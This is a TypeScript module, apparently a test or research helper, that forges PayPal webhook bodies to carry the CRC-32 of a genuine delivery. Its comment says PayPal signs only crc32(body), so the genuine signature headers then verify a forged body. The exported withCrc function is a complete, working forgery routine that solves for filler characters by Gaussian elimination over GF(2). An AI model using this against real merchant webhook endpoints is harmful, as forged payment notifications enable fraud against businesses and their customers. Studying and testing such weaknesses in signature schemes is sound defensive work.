// CRC-preserving forgeries: PayPal signs crc32(body), not the body, and CRC-32 is affine over GF(2), so any
// body can be given the CRC of a genuine delivery by choosing a few filler characters. The genuine headers then
// verify the forged body. Filler characters stay in 0x60–0x7F (` a–z { | } ~ DEL), all legal inside a JSON string.
import { crc32 } from 'node:zlib';

export const FILLER = '`'.repeat(8);

/**
 * Returns `body` (which must contain FILLER once) with the filler replaced so that crc32(result) === crc.
 * Each filler character contributes its 5 low bits: 40 unknowns for a 32-bit target.
 */
export function withCrc(body: string, crc: number): Buffer {
  const base = Buffer.from(body, 'utf8');
  const at = base.indexOf(FILLER);
  if (at < 0 || base.indexOf(FILLER, at + 1) >= 0) throw new Error('body must contain the filler exactly once');
  const baseCrc = crc32(base);
  // Column j: how flipping filler bit j changes the CRC (linear part only).
  const columns: { effect: number; flips: bigint }[] = [];
  for (let j = 0; j < FILLER.length * 5; j++) {
    const flipped = Buffer.from(base);
    flipped[at + Math.floor(j / 5)]! ^= 1 << (j % 5);
    columns.push({ effect: (crc32(flipped) ^ baseCrc) >>> 0, flips: 1n << BigInt(j) });
  }
  // Gaussian elimination: one pivot column per CRC bit.
  const pivots: ({ effect: number; flips: bigint } | undefined)[] = [];
  for (const c of columns) {
    let { effect, flips } = c;
    for (let bit = 31; bit >= 0 && effect; bit--) {
      if (!((effect >>> bit) & 1)) continue;
      const p = pivots[bit];
      if (!p) {
        pivots[bit] = { effect, flips };
        effect = 0;
      } else {
        effect = (effect ^ p.effect) >>> 0;
        flips ^= p.flips;
      }
    }
  }
  let need = (baseCrc ^ crc) >>> 0;
  let flips = 0n;
  for (let bit = 31; bit >= 0; bit--) {
    if (!((need >>> bit) & 1)) continue;
    const p = pivots[bit];
    if (!p) throw new Error('filler bits do not span the CRC; use another filler position');
    need = (need ^ p.effect) >>> 0;
    flips ^= p.flips;
  }
  const out = Buffer.from(base);
  for (let j = 0; j < FILLER.length * 5; j++)
    if ((flips >> BigInt(j)) & 1n) out[at + Math.floor(j / 5)]! ^= 1 << (j % 5);
  if (crc32(out) !== crc) throw new Error('forgery failed');
  return out;
}
